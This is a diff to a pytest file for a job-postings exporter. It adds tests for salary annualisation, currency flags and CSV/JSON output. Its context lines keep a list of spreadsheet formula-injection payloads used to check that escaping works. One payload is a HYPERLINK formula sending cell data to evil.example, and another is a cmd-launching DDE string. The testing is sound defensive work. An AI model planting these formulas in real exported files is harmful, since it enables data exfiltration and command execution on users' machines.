@@ -3,13 +3,17 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 from pathlib import Path
 
 import pytest
 from conftest import invoke, make_site
-from roledex.export import COLUMNS, FORMULA_STARTS, as_csv
+from roledex.export import COLUMNS, FORMULA_STARTS, as_csv, as_json, export_rows
+from roledex.model import Company, KnowledgeBase, Posting, Salary
+from roledex.settings import Settings
+from roledex.source import Document
 
 PAYLOADS = [
     '=1+HYPERLINK("https://evil.example/?"&A1,"x")',
@@ -72,3 +76,94 @@ def test_export_of_hostile_front_matter_runs_nothing(tmp_path: Path) -> None:
     as_json = invoke("export", str(tmp_path / "docs"), "--format", "json", "--config", str(tmp_path / "mkdocs.yml"))
     postings = json.loads(as_json.stdout)["postings"]
     assert next(p for p in postings if p["posting"] == "evil-x")["title"] == "-2+3+cmd|' /C calc'!A0"
+
+
+DOC = Document(path="postings/p.md", folder="postings", slug="p", meta={}, body="", body_line=1)
+RATES = Settings(base_currency="USD", rates={"EUR": 1.1}, rates_date=dt.date(2026, 11, 1))
+
+
+def _kb(*postings: Posting) -> KnowledgeBase:
+    kb = KnowledgeBase()
+    kb.companies["acme"] = Company(slug="acme", doc=DOC, name="Acme Inc")
+    for posting in postings:
+        kb.postings[posting.slug] = posting
+    return kb
+
+
+def test_a_row_holds_the_posting_as_stated_and_as_a_year_in_the_base_currency() -> None:
+    posting = Posting(
+        slug="p",
+        doc=DOC,
+        company="acme",
+        title="Data Engineer",
+        role="data-engineer",
+        locations=["Berlin", "Remote"],
+        work_mode="hybrid",
+        salary=Salary(min=5000, max=6000.333, currency="EUR", period="month", text="5-6k"),
+        url="https://acme.example/jobs/1",
+        posted=dt.date(2026, 11, 2),
+        closes=dt.date(2026, 12, 1),
+    )
+    (row,) = export_rows(_kb(posting), RATES)
+    assert row == {
+        "posting": "p",
+        "company": "acme",
+        "company_name": "Acme Inc",
+        "title": "Data Engineer",
+        "role": "data-engineer",
+        "locations": "Berlin; Remote",
+        "work_mode": "hybrid",
+        "salary_min": 5000,
+        "salary_max": 6000.333,
+        "currency": "EUR",
+        "period": "month",
+        "salary_text": "5-6k",
+        "annual_min": 66000.0,
+        "annual_mid": 72602.2,
+        "annual_max": 79204.4,
+        "annual_currency": "USD",
+        "converted": True,
+        "flag": "",
+        "url": "https://acme.example/jobs/1",
+        "posted": "2026-11-02",
+        "closes": "2026-12-01",
+    }
+    assert list(row) == list(COLUMNS)
+
+
+def test_a_row_without_a_salary_or_a_known_company_is_empty_there() -> None:
+    (row,) = export_rows(_kb(Posting(slug="q", doc=DOC, company="nobody", title="T")), RATES)
+    assert row["company_name"] == "" and row["role"] == "" and row["work_mode"] == "" and row["locations"] == ""
+    empty = ["salary_min", "salary_max", "currency", "period", "salary_text", "annual_min", "annual_mid"]
+    empty += ["annual_max", "annual_currency", "converted", "url", "posted", "closes"]
+    assert {key: row[key] for key in empty} == dict.fromkeys(empty)
+    assert row["flag"] == ""
+
+
+@pytest.mark.parametrize(
+    ("salary", "flag", "converted"),
+    [
+        (Salary(100, 200, "USD", "year", headline=300), "headline is min + max", True),
+        (Salary(100, 200, "XAU", "year"), "no rate for XAU", False),
+        (Salary(100, 200, "XAU", "year", headline=300), "headline is min + max; no rate for XAU", False),
+        (Salary(100, 200, "USD", "year", headline=250), "", True),
+    ],
+)
+def test_the_flag_says_why_a_figure_needs_care(salary: Salary, flag: str, converted: bool) -> None:
+    (row,) = export_rows(_kb(Posting(slug="p", doc=DOC, company="acme", title="T", salary=salary)), RATES)
+    assert (row["flag"], row["converted"]) == (flag, converted)
+
+
+def test_json_carries_the_base_currency_and_the_date_of_the_rates() -> None:
+    rows = export_rows(_kb(Posting(slug="q", doc=DOC, company="acme", title="T")), RATES)
+    data = json.loads(as_json(rows, RATES))
+    assert (data["base_currency"], data["rates_date"], data["postings"]) == ("USD", "2026-11-01", rows)
+    assert json.loads(as_json([], Settings()))["rates_date"] is None
+    assert as_json([{"title": "Café"}], Settings()).count("Café") == 1
+    with pytest.raises(ValueError):
+        as_json([{"annual_min": float("nan")}], Settings())
+
+
+def test_csv_has_a_header_and_one_line_per_posting() -> None:
+    rows = export_rows(_kb(Posting(slug="q", doc=DOC, company="acme", title="T")), RATES)
+    assert as_csv(rows).split("\r\n") == [",".join(COLUMNS), "q,acme,Acme Inc,T" + "," * 17, ""]
